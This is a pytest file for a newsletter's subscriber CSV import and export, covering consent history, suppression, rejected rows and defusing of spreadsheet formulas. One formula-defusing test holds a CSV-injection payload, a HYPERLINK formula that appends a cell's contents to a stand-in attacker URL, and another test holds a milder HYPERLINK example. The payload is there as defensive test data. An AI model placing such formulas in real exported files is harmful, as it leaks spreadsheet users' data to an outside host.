from __future__ import annotations

import io
import re
from collections.abc import Callable
from datetime import timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from newsletter.store.database import Database
from subscribers import people
from subscribers.audience import audience
from subscribers.csv_file import export_subscribers
from subscribers.errors import ImportFileError, SuppressedError
from subscribers.history import Event, Way
from subscribers.importing import report as import_report
from subscribers.importing import rows as file_rows
from subscribers.importing.cells import defused, plain
from subscribers.importing.report import Rejected
from subscribers.preferences import choose
from subscribers.privacy import erase
from subscribers.subscriber import Status
from subscribers.suppression import suppress
from subscribers.unsubscribe import status_of, unsubscribe
from tests.factories.subscribers import LIST, NOW, events, import_text, join, listing

FILE = """email,name,tags,town
Jo@example.org,Jo Doe,Data Breach;ai,Hobart
leser@bücher.example,,,
"""


def test_people_who_left_elsewhere_are_taken_off_and_never_brought_back(database: Database) -> None:
    """One who stands leaves, a stranger is remembered, and both are in the history; twice is once."""
    with database.transaction() as connection:
        standing = join(connection, "jo@example.org")
    text = "email\njo@example.org\nstranger@example.org\nno address\n"
    report = import_text(database, text, left=True)
    assert (report.added, report.updated, report.rejected_count) == (1, 1, 1)
    again = import_text(database, text, left=True)
    assert (again.added, again.updated, again.unchanged) == (0, 0, 2)
    refused = import_text(database, "email\njo@example.org\nstranger@example.org\n")
    assert refused.rejected_count == 2
    with database.transaction(read_only=True) as connection:
        assert events(connection, standing)[-1] == (Event.UNSUBSCRIBE, Way.IMPORT)
        assert {row["status"] for row in listing(connection, LIST)} == {"unsubscribed"}


def test_a_file_makes_active_subscriptions_with_consent_on_record(database: Database) -> None:
    """Name, tags, further columns, and "import" with the file's name and the time."""
    report = import_text(database, FILE)
    assert (report.added, report.rows) == (2, 2)
    with database.transaction() as connection:
        jo = people.show(connection, "jo@example.org")
        leser = people.show(connection, "leser@bücher.example")
    assert (jo["name"], jo["tags"], jo["attributes"]) == (
        "Jo Doe",
        ["ai", "data-breach"],
        {"town": "Hobart"},
    )
    assert jo["history"] == [
        {
            "at": NOW.isoformat(),
            "event": "import",
            "way": "import",
            "list": LIST,
            "detail": "readers.csv",
        }
    ]
    assert (leser["name"], leser["tags"], leser["attributes"]) == ("", [], {})
    assert leser["subscriptions"] == [{"list": LIST, "status": "active"}]


def test_importing_again_changes_nothing(database: Database) -> None:
    """The same file twice is once: no new rows, no new history."""
    import_text(database, FILE)
    again = import_text(database, FILE, now=NOW + timedelta(days=1))
    assert (again.added, again.updated, again.unchanged) == (0, 0, 2)
    with database.transaction() as connection:
        assert len(people.show(connection, "jo@example.org")["history"]) == 1


def test_a_changed_row_updates_and_an_empty_cell_does_not_erase(database: Database) -> None:
    """New values are taken over; what the file does not say is left as it is."""
    import_text(database, FILE)
    report = import_text(database, "email,name,tags,town\njo@example.org,,ai,Perth\n")
    assert report.updated == 1
    with database.transaction() as connection:
        jo = people.show(connection, "jo@example.org")
    assert (jo["name"], jo["tags"], jo["attributes"]) == ("Jo Doe", ["ai"], {"town": "Perth"})
    assert [entry["event"] for entry in jo["history"]] == ["import", "update"]


def test_a_readers_own_choice_outlives_an_import(database: Database) -> None:
    """Tags and name set on the preferences page are not clobbered by an old file."""
    import_text(database, FILE)
    with database.transaction() as connection:
        person = people.find(connection, "jo@example.org").id
        choose(connection, person, name="J", follows=["reviews"], way=Way.PAGE, now=NOW)
    assert import_text(database, FILE).updated == 0
    with database.transaction() as connection:
        assert people.show(connection, "jo@example.org")["tags"] == ["reviews"]


def _leave(database: Database) -> None:
    with database.transaction() as connection:
        person = people.find(connection, "jo@example.org").id
        unsubscribe(connection, person, LIST, Way.ONE_CLICK, NOW)


def _suppress(database: Database) -> None:
    with database.transaction() as connection:
        suppress(connection, "jo@example.org", "by letter", NOW)


def _erase(database: Database) -> None:
    with database.transaction() as connection:
        erase(connection, "jo@example.org", NOW)


@pytest.mark.parametrize("gone", [_leave, _suppress, _erase])
def test_a_file_brings_nobody_back(database: Database, gone: Callable[[Database], None]) -> None:
    """A reader who left, is suppressed or was erased is rejected with line and reason."""
    import_text(database, FILE)
    gone(database)
    report = import_text(database, FILE)
    assert [(row.line, row.address) for row in report.rejected] == [(2, "Jo@example.org")]
    assert report.rejected[0].reason
    with database.transaction() as connection:
        readers = {row.address for row in connection.execute(audience(LIST, NOW))}
    assert readers == {"leser@bücher.example"}


@pytest.mark.parametrize("gone", [_leave, _suppress, _erase])
def test_with_a_stated_consent_a_file_brings_people_back(
    database: Database, gone: Callable[[Database], None]
) -> None:
    """Force needs the consent in words, and writes it down."""
    import_text(database, FILE)
    gone(database)
    with pytest.raises(SuppressedError):
        import_text(database, FILE, force=True)
    import_text(database, FILE, force=True, consent="paper forms of 1 March")
    with database.transaction() as connection:
        readers = {row.address for row in connection.execute(audience(LIST, NOW))}
        history = people.show(connection, "jo@example.org")["history"]
    assert "Jo@example.org" in readers
    assert "paper forms" in history[-1]["detail"]


def test_confirm_leaves_newcomers_pending(database: Database) -> None:
    """They are mailed nothing but the question; who was active stays active."""
    with database.transaction() as connection:
        person = join(connection, "jo@example.org")
    import_text(database, FILE, confirm=True)
    with database.transaction() as connection:
        assert status_of(connection, person, LIST) is Status.ACTIVE
        other = people.find(connection, "leser@bücher.example").id
        assert status_of(connection, other, LIST) is Status.PENDING


@pytest.mark.parametrize(
    ("row", "reason"),
    [
        (b"jo", "not a valid e-mail address"),
        (b",Jo", "not a valid e-mail address"),
        (b"jo@example.org,J\xfcrgen", "not UTF-8"),
        (b'jo@example.org,"' + b"x" * 140_000 + b'"', "not valid CSV"),
        (b"jo@example.org\x00", "not a valid e-mail address"),
    ],
)
def test_a_bad_row_is_rejected_alone(database: Database, row: bytes, reason: str) -> None:
    """Line and reason are told, and the rows around it are taken."""
    text = b"email,name\na@example.org\n" + row + b"\nb@example.org\n"
    report = import_text(database, text)
    assert report.added == 2
    (rejected,) = report.rejected
    assert rejected.line == 3
    assert reason in rejected.reason


def test_lines_are_counted_as_an_editor_counts_them(sqlite_database: Database) -> None:
    """Empty lines and cells with line breaks do not put the count wrong."""
    report = import_text(sqlite_database, 'email,name\n\na@example.org,"A\nB"\n,,\nbad\n')
    assert [row.line for row in report.rejected] == [6]


@pytest.mark.parametrize(
    "text",
    [
        '\ufeffE-Mail;Vorname;Themen\njo@example.org;Jo;"ai;news"\n',
        "E-Mail\tVorname\tThemen\r\njo@example.org\tJo\tai;news\r\n",
        "E-Mail,Vorname,Themen\rjo@example.org,Jo,ai;news\r",
    ],
)
def test_other_headers_and_separators_are_mapped(sqlite_database: Database, text: str) -> None:
    """Headers by mapping; the semicolons, tabs and line ends of spreadsheets are understood."""
    mapping = {"email": "e-mail", "name": "Vorname", "tags": "Themen"}
    assert import_text(sqlite_database, text, mapping=mapping).added == 1
    with sqlite_database.transaction() as connection:
        shown = people.show(connection, "jo@example.org")
    assert (shown["name"], shown["tags"]) == ("Jo", ["ai", "news"])


@pytest.mark.parametrize(
    ("text", "mapping", "field"),
    [
        ("", {}, "email"),
        ("Mail,Name\njo@example.org,Jo\n", {}, "email"),
        ("email\n", {"name": "Vorname"}, "name"),
        ("email\n", {"town": "Ort"}, "town"),
        ("\x00\x01\x02", {}, "email"),
    ],
)
def test_a_file_without_the_columns_is_refused_as_a_whole(
    sqlite_database: Database, text: str, mapping: dict[str, str], field: str
) -> None:
    """The error names the file, the column, and what to do."""
    with pytest.raises(ImportFileError) as caught:
        import_text(sqlite_database, text, mapping=mapping)
    problem = caught.value.problem
    assert (problem.file, problem.field) == ("readers.csv", field)
    assert problem.fix


def test_one_address_in_two_rows_is_one_person(database: Database) -> None:
    """The later row updates the earlier, as if they had come in two files."""
    report = import_text(database, "email,name\njo@example.org,J\nJO@example.org,Jo\n")
    assert (report.added, report.updated) == (1, 1)
    with database.transaction() as connection:
        assert people.show(connection, "jo@example.org")["name"] == "Jo"


def test_a_long_file_goes_in_batches_and_tells_its_progress(
    sqlite_database: Database, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Memory holds one batch; all rejected rows are counted and handed on, the first are kept."""
    monkeypatch.setattr(file_rows, "BATCH", 10)
    monkeypatch.setattr(import_report, "REJECTED_SHOWN", 5)
    rows = [f"r{number}@example.org" if number % 2 else "bad" for number in range(50)]
    told: list[int] = []
    handed_on: list[Rejected] = []
    report = import_text(
        sqlite_database,
        "email\n" + "\n".join(rows),
        progress=told.append,
        on_rejected=handed_on.append,
    )
    assert (report.added, report.rejected_count, len(report.rejected)) == (25, 25, 5)
    assert len(handed_on) == 25
    assert told[-1] == len("email\n" + "\n".join(rows))
    assert len(told) == 3


def test_an_export_imports_again_as_it_was(database: Database) -> None:
    """Only active subscribers, by address; formulas are defused for spreadsheets and undone."""
    import_text(database, FILE)
    import_text(database, 'email,name,town\n=a@example.org,"=HYPERLINK(""http://x.test"")",Perth\n')
    _leave(database)
    file = io.StringIO()
    with database.transaction() as connection:
        assert export_subscribers(connection, LIST, file) == 2
    assert file.getvalue() == (
        "email,name,tags,town\n"
        '\'=a@example.org,"\'=HYPERLINK(""http://x.test"")",,Perth\n'
        "leser@bücher.example,,,\n"
    )
    again = import_text(database, file.getvalue())
    assert (again.unchanged, again.rejected_count) == (2, 0)


@pytest.mark.parametrize("start", "=+-@\t\n＝＋－＠")
def test_each_start_of_a_formula_is_defused(start: str) -> None:
    """Spreadsheets run some of them in full width too; an import takes the apostrophe away."""
    assert defused(f"{start}1+1") == f"'{start}1+1"
    assert plain(defused(f"{start}1+1")) == f"{start}1+1"


@pytest.mark.parametrize("before", ["Jo;", 'Jo;"', "Jo\t", "Jo\n", "a;b;"])
def test_no_formula_hides_behind_a_separator(before: str) -> None:
    """Where cells are separated by semicolons, a spreadsheet takes a quoted cell apart."""
    cell = f'{before}=HYPERLINK("https://evil.test/?"&A1);'
    at = len(before.rstrip('"'))
    assert defused(cell) == f"{cell[:at]}'{cell[at:]}"
    assert plain(defused(cell)) == cell
    assert defused("Jo; a = b - c, d+e") == "Jo; a = b - c, d+e"


@given(cell=st.text(st.sampled_from(';\t\r\n"=+-@a, '), max_size=12))
def test_what_is_defused_is_read_back_as_it_was(cell: str) -> None:
    """Nothing that begins a formula is left after a separator, and an import undoes it."""
    assert plain(defused(cell)) == cell
    assert not re.search(r'(?:^|[;\t\r\n])"*[=+\-@]', defused(cell))


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
@given(content=st.binary(max_size=400))
def test_no_content_breaks_an_import(database: Database, content: bytes) -> None:
    """Whatever follows the header ends in a report."""
    report = import_text(database, b"email,name,tags\n" + content)
    assert report.rows >= 0
